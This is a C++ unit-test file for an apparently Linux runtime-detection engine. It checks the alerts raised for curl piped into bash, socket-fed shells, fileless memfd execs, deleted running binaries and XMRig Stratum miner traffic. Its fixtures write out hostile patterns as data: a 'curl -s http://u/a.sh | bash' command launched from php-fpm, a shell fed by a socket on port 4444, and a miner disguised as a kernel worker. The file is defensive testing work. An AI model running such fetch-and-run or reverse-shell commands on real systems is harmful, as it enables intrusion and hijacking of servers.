// SPDX-License-Identifier: Apache-2.0
// Whole stories through the engine: records in, alerts out.
#include "engine/engine.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "curl_and_bash.h"
#include "report/phrases.h"
#include "report/told.h"
#include "support/records.h"

namespace davylamp {
namespace {

using namespace test;
using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;
using testing::Pair;

class Story {
public:
    explicit Story(Policy policy = monitor()) : engine(policy) {}

    static Policy monitor()
    {
        Policy policy;
        policy.chain = policy.image = policy.stratum = Mode::monitor;
        return policy;
    }

    template <class T> Story& operator<<(const T& event)
    {
        Record record(event);
        engine.feed(record.event(), [&](const Alert& alert) { alerts.push_back(alert); });
        return *this;
    }

    Engine engine;
    std::vector<Alert> alerts;
};

std::vector<std::string> roles(const Alert& alert)
{
    std::vector<std::string> out;
    for (const AlertParty& party : alert.parties)
        out.push_back(std::string(role_name(party.role)) + " " +
                      std::to_string(party.process.id.tgid));
    return out;
}

const davy_process kFpm = with_uid(process(640, 1, "php-fpm8.2"), 33);
const davy_process kSh = with_uid(process(811, 640, "sh"), 33);
const davy_process kUsersCurl = with_uid(process(812, 811, "curl"), 33);
const davy_process kUsersBash =
    with_family(with_uid(process(813, 811, "bash"), 33), DAVY_FAMILY_SHELL);

// php-fpm starts sh -c 'curl … | bash'.
void curl_pipe_bash(Story& story)
{
    story << execs(1, kFpm, "/usr/sbin/php-fpm8.2", {"php-fpm: pool www"})
          << forks(2, 640, 811, "php-fpm8.2")
          << execs(3, kSh, "/bin/sh", {"sh", "-c", "curl -s http://u/a.sh | bash"})
          << forks(4, 811, 812, "sh") << forks(5, 811, 813, "sh")
          << execs(6, kUsersBash, "/bin/bash", {"bash"}, 0)
          << execs(7, kUsersCurl, "/usr/bin/curl", {"curl", "-s", "http://u/a.sh"});
}

TEST(Engine, TellsTheChainThatWasRefused)
{
    Story story;
    curl_pipe_bash(story);
    story << chain(8, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
    ASSERT_EQ(story.alerts.size(), 1u);
    const Alert& alert = story.alerts[0];
    EXPECT_EQ(alert.sequence, 1u);
    EXPECT_EQ(alert.incident, 1u);
    EXPECT_EQ(alert_code(alert), "CHAIN-001");
    EXPECT_EQ(alert_title(alert), "Downloaded script piped into a shell");
    EXPECT_EQ(alert_message(alert),
              "curl (812) downloads from 198.51.100.9:80 into bash (813), which "
              "would run it; connect refused");
    EXPECT_EQ(alert_action(alert), "connect refused (EPERM)");
    EXPECT_EQ(alert.severity, 5);
    EXPECT_THAT(roles(alert), ElementsAre("interpreter 813", "downloader 812"));
    EXPECT_EQ(alert.parties[1].process.args[2], "http://u/a.sh");
    ASSERT_EQ(alert.parties[0].ancestors.size(), 3u);
    EXPECT_EQ(alert.parties[0].ancestors[1].image_name, "php-fpm8.2");
    EXPECT_THAT(alert_facts(alert), Contains(Pair("network service", "php-fpm8.2")));
    EXPECT_THAT(alert_facts(alert), Contains(Pair("interpreter", "shell")));
}

TEST(Engine, MonitorSaysWhatWouldHaveBeenRefused)
{
    Story story;
    story << chain(8, DAVY_MODE_MONITOR, kUsersCurl, kUsersBash, kRemote);
    ASSERT_EQ(story.alerts.size(), 1u);
    EXPECT_EQ(alert_message(story.alerts[0]),
              "curl (812) downloads from 198.51.100.9:80 into bash (813), "
              "which runs it; connect would have been refused");
    EXPECT_TRUE(story.alerts[0].would_block);
    EXPECT_TRUE(story.alerts[0].to_kill.empty());
}

TEST(Engine, KillSaysWhoIsLeft)
{
    Story story;
    auto event = chain(8, DAVY_MODE_KILL, kUsersCurl, kUsersBash, kRemote);
    event.decision.did |= DAVY_DID_KILL_CURRENT;
    event.stages_count = 1;
    event.stages[0] = id(814);
    story << event;
    ASSERT_EQ(story.alerts.size(), 1u);
    EXPECT_THAT(roles(story.alerts[0]),
                ElementsAre("interpreter 813", "downloader 812", "stage 814"));
    EXPECT_EQ(
        alert_action(story.alerts[0]),
        "connect refused (EPERM), curl (812) killed by the kernel, left to userspace to kill: "
        "bash (813), process 814");
    EXPECT_EQ(story.alerts[0].to_kill.size(), 2u);
}

TEST(Engine, ASinkThatComesLastIsKilledBeforeItsFirstInstruction)
{
    Story story;
    auto event = chain(8, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
    event.process = kUsersBash;
    event.facts.source = DAVY_SOURCE_FED;
    judge(event);
    event.decision.did = DAVY_DID_KILL_CURRENT;
    event.decision.starts = 1;
    story << event;
    EXPECT_EQ(alert_message(story.alerts.at(0)),
              "curl (812) passes what it gets from 198.51.100.9:80 to bash (813), which would run "
              "it; bash (813) killed by the kernel before its first instruction");
}

// `source <(curl …)` in a shell that has run for an hour.
TEST(Engine, AShellThatHasRunDoesNotDieBeforeItsFirstInstruction)
{
    Story story;
    for (std::uint8_t mode : {DAVY_MODE_BLOCK, DAVY_MODE_MONITOR}) {
        auto event = chain(8, mode, kUsersCurl, kUsersBash, kRemote);
        event.process = kUsersBash;
        event.facts.source = DAVY_SOURCE_FED;
        judge(event);
        event.decision.did = mode == DAVY_MODE_BLOCK ? DAVY_DID_KILL_CURRENT : 0;
        story << event;
    }
    EXPECT_EQ(alert_action(story.alerts.at(0)), "bash (813) killed by the kernel");
    EXPECT_EQ(alert_action(story.alerts.at(1)), "process would have been killed");
}

// The sentence leaves the error's name out, and nothing of a process that is called like it.
TEST(Engine, ANameLikeAnErrorStaysWhole)
{
    Story story;
    davy_process odd = process(815, 811, "x (EPERM, y)");
    auto event = chain(8, DAVY_MODE_BLOCK, odd, kUsersBash, kRemote);
    event.decision.did = DAVY_DID_KILL_CURRENT;
    story << event;
    EXPECT_EQ(alert_message(story.alerts.at(0)),
              "x (EPERM, y) (815) downloads from 198.51.100.9:80 into bash (813), which would run "
              "it; x (EPERM, y) (815) killed by the kernel");
    EXPECT_EQ(alert_action(story.alerts[0]), "x (EPERM, y) (815) killed by the kernel");
}

TEST(Engine, AShellOnASocketIsAnotherRule)
{
    Story story;
    auto event = chain(8, DAVY_MODE_BLOCK, kUsersBash, kUsersBash, flow("2001:db8::1", 4444));
    event.source = {};
    event.facts.source = DAVY_SOURCE_SOCKET;
    event.facts.hops = 0;
    judge(event);
    event.decision.did = DAVY_DID_KILL_CURRENT;
    story << event;
    EXPECT_EQ(alert_code(story.alerts.at(0)), "CHAIN-002");
    EXPECT_EQ(alert_title(story.alerts.at(0)), "Shell fed by a network socket");
    EXPECT_THAT(alert_message(story.alerts.at(0)),
                HasSubstr("bash (813) takes its commands from a socket to [2001:db8::1]:4444"));
    EXPECT_THAT(roles(story.alerts.at(0)), ElementsAre("interpreter 813"));
}

TEST(Engine, StaysSilentWhereTheVerdictIsAllow)
{
    Story story;
    auto event = chain(8, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
    event.facts.exempt = 1;
    event.facts.row = 0;
    judge(event);
    story << event;
    auto data = chain(9, DAVY_MODE_BLOCK, kUsersCurl, kUsersBash, kRemote);
    data.facts.reads_code = 0;
    judge(data);
    story << data;
    EXPECT_TRUE(story.alerts.empty());
    EXPECT_EQ(story.engine.counts().disagreements, 0u);
}

TEST(Engine, FilelessExecNamesTheImageAndItsProcess)
{
    Story story;
    davy_image image = memfd(77, "x");
    story << execs(1, kUsersBash, "/bin/bash", {"bash"})
          << fileless(2, DAVY_MODE_BLOCK, with_image(kUsersBash, image), image, "/proc/self/fd/3");
    ASSERT_EQ(story.alerts.size(), 1u);
    const Alert& alert = story.alerts[0];
    EXPECT_EQ(alert_code(alert), "EXE-001");
    EXPECT_EQ(alert_message(alert),
              "bash (813) starts memfd:x, which has no file on any disk; bash (813) "
              "killed by the kernel before its first instruction");
    EXPECT_EQ(alert.severity, 4);
    EXPECT_EQ(alert.parties.at(0).process.image_path, "/proc/self/fd/3");
    EXPECT_TRUE(alert.parties[0].process.args.empty()) << "bash's arguments are not the memfd's";
    EXPECT_THAT(alert_facts(alert), Contains(Pair("kind", "memfd")));
    EXPECT_THAT(alert_facts(alert), Not(Contains(Pair("mode", "0777"))))
        << "a memfd's is no choice";
}

TEST(Engine, AFilelessProgramThatWasFetchedIsCritical)
{
    Story story;
    davy_image image = memfd(77, "x");
    story << connects(7, kUsersBash, kRemote)
          << fileless(2, DAVY_MODE_MONITOR, with_image(kUsersBash, image), image, "");
    EXPECT_EQ(story.alerts.at(0).severity, 5);
}

TEST(Engine, ARefusedFilelessExecLeavesTheProcessWhatItWas)
{
    Story story;
    auto event = fileless(2, DAVY_MODE_BLOCK, kUsersBash, memfd(77, "x"), "/dev/fd/3");
    event.decision.did = DAVY_DID_REFUSE;
    story << execs(1, kUsersBash, "/bin/bash", {"bash"}) << event;
    EXPECT_EQ(alert_message(story.alerts.at(0)),
              "bash (813) tried to start memfd:x, which has no file on any disk; exec refused");
    EXPECT_EQ(story.alerts.at(0).parties.at(0).process.image_path, "/bin/bash");
}

TEST(Engine, ADeniedExecNamesTheFileAndTheBackend)
{
    Story story;
    davy_image image = kUsersBash.image;
    image.flags |= DAVY_IMAGE_DENIED;
    auto event = fileless(2, DAVY_MODE_BLOCK, kUsersBash, image, "/opt/miner");
    event.header.verdict = DAVY_DENY;
    event.decision.rule = DAVY_RULE_IMAGE_DENIED;
    event.decision.did = DAVY_DID_REFUSE;
    event.decision.backend = DAVY_BACKEND_LSM;
    story << execs(1, kUsersBash, "/bin/bash", {"bash"}) << event;
    const Alert& alert = story.alerts.at(0);
    EXPECT_EQ(alert_code(alert), "EXE-006");
    EXPECT_EQ(alert_message(alert),
              "bash (813) tried to start /opt/miner, which policy denies; exec "
              "refused");
    EXPECT_EQ(alert_action(alert), "exec refused (EPERM, by lsm)");
}

const davy_process kUsersMiner = with_uid(process(900, 813, "kdevtmpfsi"), 33);

TEST(Engine, RemovalNamesEveryProcessThatRunsTheFile)
{
    Story story;
    davy_process rm = process(950, 813, "rm");
    story << execs(1, kUsersBash, "/bin/bash", {"bash"}) << forks(2, 813, 900, "bash")
          << execs(3, kUsersMiner, "/tmp/.x/kdevtmpfsi", {"[kworker/0:1]"})
          << forks(4, 900, 902, "kdevtmpfsi") << forks(4, 900, 901, "kdevtmpfsi")
          << forks(4, 900, 903, "kdevtmpfsi") << exits(5, 903, "kdevtmpfsi")
          << removed(6, DAVY_MODE_KILL, rm, id(900), gone(kUsersMiner.image), "kdevtmpfsi");
    ASSERT_EQ(story.alerts.size(), 1u);
    const Alert& alert = story.alerts[0];
    EXPECT_EQ(alert_code(alert), "EXE-002");
    EXPECT_THAT(roles(alert), ElementsAre("victim 900", "victim 901", "victim 902", "remover 950"));
    EXPECT_EQ(alert_message(alert),
              "rm (950) removed /tmp/.x/kdevtmpfsi, which kdevtmpfsi (900) and 2 more still run; "
              "left to userspace to kill: kdevtmpfsi (900)");
    EXPECT_EQ(alert.severity, 4);
    EXPECT_EQ(alert.parties[1].process.image_nlink, 0u);
    EXPECT_THAT(alert_facts(alert), Contains(Pair("place", "world-writable")));
    EXPECT_THAT(alert_facts(alert), Contains(Pair("victims", "3")));
}

TEST(Engine, SelfRemovalHasOneParty)
{
    Story story;
    davy_image image = gone(kUsersMiner.image);
    story << execs(1, kUsersMiner, "./m", {"m"})
          << removed(2, DAVY_MODE_MONITOR, with_image(kUsersMiner, image), kUsersMiner.id, image,
                     "m");
    EXPECT_THAT(roles(story.alerts.at(0)), ElementsAre("victim 900"));
    EXPECT_EQ(alert_message(story.alerts[0]),
              "kdevtmpfsi (900) removed its own executable, m, and runs "
              "on; removal would have been refused, or the process "
              "killed");
    EXPECT_EQ(story.alerts[0].severity, 4);
}

TEST(Engine, AStrangersRemovalElsewhereIsMedium)
{
    Story story;
    davy_process admin = process(60, 1, "rm");
    davy_process daemon = process(70, 1, "daemon");
    story << execs(1, daemon, "/usr/local/bin/daemon", {"daemon"})
          << removed(2, DAVY_MODE_MONITOR, admin, daemon.id, gone(daemon.image),
                     "/usr/local/bin/daemon");
    EXPECT_EQ(story.alerts.at(0).severity, 3);
    davy_image open = gone(daemon.image);
    open.inode = 5; // another file, so that it is another finding
    open.mode = 0100777;
    story << removed(3, DAVY_MODE_MONITOR, admin, daemon.id, open, "/usr/local/bin/daemon");
    EXPECT_EQ(story.alerts.at(1).severity, 4);
    EXPECT_THAT(alert_facts(story.alerts[1]), Contains(Pair("mode", "0777")));
}

TEST(Engine, StaysSilentWhenUpgradeReplacesRunningBinary)
{
    Story story;
    story << removed(2, DAVY_MODE_BLOCK, process(60, 1, "dpkg"), kUsersMiner.id,
                     gone(kUsersMiner.image, DAVY_IMAGE_REPLACED), "/usr/sbin/x")
          << swept(3, with_image(kUsersMiner, gone(kUsersMiner.image, DAVY_IMAGE_REPLACED)));
    EXPECT_TRUE(story.alerts.empty());
}

TEST(Engine, TalkingWithoutAnExecutable)
{
    Story story;
    story << execs(1, kUsersMiner, "/tmp/kdevtmpfsi", {"x"})
          << talking(2, DAVY_MODE_BLOCK, with_image(kUsersMiner, gone(kUsersMiner.image)),
                     flow("192.0.2.77", 3333));
    EXPECT_EQ(alert_message(story.alerts.at(0)),
              "kdevtmpfsi (900), whose executable /tmp/kdevtmpfsi is gone, connects to "
              "192.0.2.77:3333; connect refused");
    EXPECT_EQ(story.alerts[0].severity, 5);
}

TEST(Engine, ASweepReportsEachProcessOnce)
{
    Story story;
    davy_process found = with_image(kUsersMiner, gone(kUsersMiner.image));
    story << swept(1, found) << swept(2, found) << swept(200 * kSecond, found);
    ASSERT_EQ(story.alerts.size(), 1u);
    EXPECT_EQ(alert_code(story.alerts[0]), "EXE-004");
    EXPECT_EQ(story.alerts[0].severity, 3);
    EXPECT_EQ(story.alerts[0].verdict, static_cast<std::uint32_t>(DAVY_ALERT));
    EXPECT_TRUE(story.alerts[0].would_block);
    EXPECT_THAT(alert_message(story.alerts[0]),
                HasSubstr("runs an executable that is gone, kdevtmpfsi"));
}

TEST(Engine, ASweepTakesWhatWentAwayLaterAndNothingThatWasGoneBefore)
{
    Policy policy = Story::monitor();
    policy.image = Mode::kill;
    Story before(policy);
    before << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image, DAVY_IMAGE_BEFORE_US)));
    EXPECT_EQ(before.alerts.at(0).verdict, static_cast<std::uint32_t>(DAVY_ALERT));
    EXPECT_TRUE(before.alerts[0].to_kill.empty());
    EXPECT_FALSE(before.alerts[0].would_block);

    // Nor what another user took away, in whatever mode it is told.
    Story taken;
    taken << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image, DAVY_IMAGE_TAKEN)));
    EXPECT_EQ(taken.alerts.at(0).verdict, static_cast<std::uint32_t>(DAVY_ALERT));
    EXPECT_FALSE(taken.alerts[0].would_block);

    Story later(policy);
    later << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image)));
    EXPECT_EQ(later.alerts.at(0).verdict, static_cast<std::uint32_t>(DAVY_KILL));
    ASSERT_EQ(later.alerts[0].to_kill.size(), 1u);
    EXPECT_EQ(later.alerts[0].to_kill[0].tgid, 900u);

    policy.image = Mode::off;
    Story off(policy);
    off << swept(1, with_image(kUsersMiner, gone(kUsersMiner.image)));
    EXPECT_TRUE(off.alerts.empty());
}

// What may be another user's doing alone is told in every mode, and block mode would take nothing.
TEST(Engine, TellsWhatAnotherUserMayHaveDone)
{
    auto event = chain(kSecond, DAVY_MODE_MONITOR, kCurl, kBash, kRemote);
    event.causer_uid = 1000;
    Story his;
    his << event;
    EXPECT_TRUE(his.alerts.at(0).would_block);

    event.file_facts.another = 1;
    Story anothers;
    anothers << event;
    EXPECT_FALSE(anothers.alerts.at(0).would_block);

    event.process.uid = 1000;
    Story own;
    own << event;
    EXPECT_TRUE(own.alerts.at(0).would_block);
}

// Processor time since the start, as a rate; a busy process without its file is worse.
TEST(Engine, ASweepTellsHowBusyItIs)
{
    Story story;
    davy_event_process found =
        swept(100 * kSecond, with_image(kUsersMiner, gone(kUsersMiner.image)));
    found.process.id.start_ns = 90 * kSecond;
    found.state.cpu_ns = 69 * kSecond + 700'000'000;
    found.state.flags = DAVY_STATE_NET_FED;
    std::snprintf(found.path, sizeof found.path, "/var/tmp/java");
    story << found;
    const Alert& alert = story.alerts.at(0);
    EXPECT_EQ(alert.severity, 5);
    EXPECT_THAT(alert_facts(alert), Contains(Pair("cpu", "697%")));
    EXPECT_THAT(alert_facts(alert), Contains(Pair("net_fed", "yes")));
    EXPECT_THAT(alert_facts(alert), Contains(Pair("path", "/var/tmp/java")));
}

TEST(Engine, AProcessWithoutItsFileStartsAProgram)
{
    Story story;
    davy_event_image event =
        talking(2, DAVY_MODE_KILL, with_image(kUsersMiner, gone(kUsersMiner.image)), {});
    event.decision.rule = DAVY_RULE_IMAGE_STARTING;
    event.decision.did = 0;
    event.victim = id(813);
    std::snprintf(event.filename, sizeof event.filename, "/bin/sh");
    story << execs(1, kUsersMiner, "/tmp/kdevtmpfsi", {"x"}) << event;
    const Alert& alert = story.alerts.at(0);
    EXPECT_EQ(alert_code(alert), "EXE-005");
    EXPECT_EQ(alert_message(alert),
              "kdevtmpfsi (900), whose executable /tmp/kdevtmpfsi is gone, starts /bin/sh; left to "
              "userspace to kill: kdevtmpfsi (900), process 813");
    EXPECT_THAT(roles(alert), ElementsAre("process 900", "parent 813"));
    EXPECT_THAT(alert_facts(alert), Contains(Pair("starts", "/bin/sh")));
    EXPECT_EQ(alert.severity, 4);
}

TEST(Engine, ASweepOfHealthyOrExemptProcessesIsSilent)
{
    Story story;
    story << swept(1, kUsersMiner)
          << swept(2, with_image(kUsersBash, gone(kUsersBash.image, DAVY_IMAGE_EXEMPT)))
          << swept(3, with_image(kUsersCurl, davy_image{})); // unreadable: nlink 0 means nothing
    EXPECT_TRUE(story.alerts.empty());
}

TEST(Engine, ASweepDoesNotRepeatWhatAnAlertSaid)
{
    Story removal;
    davy_process twin = with_image(process(901, 813, "twin"), kUsersMiner.image);
    removal << swept(1, kUsersMiner) << swept(1, twin)
            << removed(2, DAVY_MODE_MONITOR, kUsersBash, kUsersMiner.id, gone(kUsersMiner.image),
                       "/tmp/m")
            << swept(3, with_image(kUsersMiner, gone(kUsersMiner.image)))
            << swept(3, with_image(twin, gone(kUsersMiner.image)));
    EXPECT_EQ(removal.alerts.size(), 1u);

    Story exec;
    davy_image image = memfd(77, "x");
    davy_process runner = with_image(kUsersBash, image);
    exec << fileless(1, DAVY_MODE_MONITOR, runner, image, "/dev/fd/3")
         << execs(1, runner, "/dev/fd/3", {"x"}) // the telemetry ring is read later
         << swept(2, runner);
    EXPECT_EQ(exec.alerts.size(), 1u);
}

constexpr std::string_view kLogin =
    R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edf","pass":"x",)"
    R"("agent":"XMRig/6.21.0"}})"
    "\n";

TEST(Engine, StratumNamesWalletAndAgent)
{
    Story story;
    story << execs(1, kUsersMiner, "/tmp/m", {"m"})
          << stratum(2, DAVY_MODE_BLOCK, kUsersMiner, flow("192.0.2.77", 3333), kLogin);
    ASSERT_EQ(story.alerts.size(), 1u);
    const Alert& alert = story.alerts[0];
    EXPECT_EQ(alert_code(alert), "MINE-001");
    EXPECT_EQ(alert.severity, 5);
    EXPECT_EQ(alert_message(alert),
              "kdevtmpfsi (900) speaks Stratum (cryptonote) to 192.0.2.77:3333, as "
              "48edf; packet dropped");
    EXPECT_THAT(roles(alert), ElementsAre("owner 900"));
    EXPECT_EQ(alert.payload, kLogin);
    EXPECT_THAT(alert_facts(alert), Contains(Pair("agent", "XMRig/6.21.0")));
    EXPECT_EQ(alert.parties[0].process.image_path, "/tmp/m");
}

TEST(Engine, StratumOfAnUnknownOwner)
{
    Story story;
    auto event = stratum(2, DAVY_MODE_BLOCK, kUsersMiner, flow("192.0.2.77", 3333),
                         R"({"method":"mining.notify","params":[]})", DAVY_TO_CLIENT);
    event.owner = {};
    event.facts.midstream = 1;
    judge(event);
    story << event;
    EXPECT_EQ(alert_message(story.alerts.at(0)),
              "192.0.2.77:3333 speaks Stratum (bitcoin) to an unknown process; reported only: a "
              "match in mid-stream, or in what a server says, takes nothing");
    EXPECT_EQ(story.alerts[0].severity, 3);
    EXPECT_FALSE(story.alerts[0].would_block);
    EXPECT_TRUE(story.alerts[0].parties.empty());
    EXPECT_THAT(alert_facts(story.alerts[0]), Contains(Pair("midstream", "yes")));
}

TEST(Engine, PoolsCarryTheirRowsNote)
{
    Policy policy = Story::monitor();
    policy.pool_addresses.push_back(*parse_prefix("198.51.100.9"));
    policy.pool_addresses[0].note = "supportxmr";
    policy.pool_ports.push_back({80, "the usual one"});
    Story story(policy);
    story << pool(1, DAVY_MODE_MONITOR, kUsersMiner, kRemote, DAVY_POOL_ADDRESS, 0)
          << pool(1, DAVY_MODE_MONITOR, kUsersMiner, kRemote, DAVY_POOL_PORT, 0)
          << pool(1, DAVY_MODE_MONITOR, kUsersCurl, kRemote, DAVY_POOL_ADDRESS,
                  5); // of another policy
    ASSERT_EQ(story.alerts.size(), 3u);
    EXPECT_EQ(story.alerts[0].policy_note, "supportxmr");
    EXPECT_EQ(story.alerts[0].severity, 4);
    EXPECT_EQ(story.alerts[1].policy_note, "the usual one");
    EXPECT_EQ(alert_code(story.alerts[1]), "MINE-003");
    EXPECT_EQ(story.alerts[1].severity, 3);
    EXPECT_EQ(story.alerts[2].policy_note, "");
}

TEST(Engine, RepeatsAreCountedNotReported)
{
    Story story;
    for (std::uint64_t t = 1; t <= 80; t += 25)
        story << pool(t * kSecond, DAVY_MODE_BLOCK, kUsersMiner, kRemote, DAVY_POOL_ADDRESS, 0);
    ASSERT_EQ(story.alerts.size(), 2u);
    EXPECT_EQ(story.alerts[0].repeats, 0u);
    EXPECT_EQ(story.alerts[1].repeats, 2u);
    EXPECT_EQ(story.engine.counts().alerts, 2u);
    EXPECT_EQ(story.engine.counts().events, 4u);
}

TEST(Engine, OneLineageIsOneIncidentAndAStrangersIsAnother)
{
    Story story;
    curl_pipe_bash(story);
    story << chain(8, DAVY_MODE_MONITOR, kUsersCurl, kUsersBash, kRemote)
          << forks(9, 813, 899, "bash") << forks(10, 899, 900, "bash") << exits(11, 899, "bash");
    davy_process orphan = kUsersMiner;
    orphan.parent = id(1); // `& disown`
    story << execs(12, orphan, "/tmp/m", {"m"})
          << pool(13, DAVY_MODE_MONITOR, orphan, kRemote, DAVY_POOL_ADDRESS, 0)
          << pool(14, DAVY_MODE_MONITOR, process(50, 1, "other"), kRemote, DAVY_POOL_ADDRESS, 0);
    ASSERT_EQ(story.alerts.size(), 3u);
    EXPECT_EQ(story.alerts[0].incident, 1u);
    EXPECT_EQ(story.alerts[1].incident, 1u);
    EXPECT_EQ(story.alerts[2].incident, 2u);
    EXPECT_EQ(story.alerts[1].parties[0].ancestors[0].id.tgid, 899u);
}

TEST(Engine, Counts)
{
    Story story;
    curl_pipe_bash(story);
    auto liar = chain(8, DAVY_MODE_MONITOR, kUsersCurl, kUsersBash, kRemote);
    liar.header.verdict = DAVY_KILL;
    story << connects(7, kUsersCurl, kRemote) << liar << exits(9, 812, "curl")
          << loss(10, DAVY_LOSS_WALK, 3) << loss(11, DAVY_LOSS_WALK, 5)
          << outcome(12, 813, DAVY_RULE_CHAIN_PIPE, 1);
    const EngineCounts& counts = story.engine.counts();
    EXPECT_EQ(counts.events, 13u);
    EXPECT_EQ(counts.execs, 4u);
    EXPECT_EQ(counts.forks, 3u);
    EXPECT_EQ(counts.exits, 1u);
    EXPECT_EQ(counts.connects, 1u);
    EXPECT_EQ(counts.alerts, 1u);
    EXPECT_EQ(counts.disagreements, 1u);
    EXPECT_EQ(counts.losses[DAVY_LOSS_WALK], 5u);
    EXPECT_EQ(counts.processes, 3u);
}

TEST(Engine, AnUnknownKindIsCountedAndLeftAlone)
{
    Story story;
    auto event = forks(1, 10, 11, "x");
    event.header.kind = 999;
    story << event;
    EXPECT_EQ(story.engine.counts().events, 1u);
    EXPECT_EQ(story.engine.counts().processes, 0u);
}

} // namespace
} // namespace davylamp
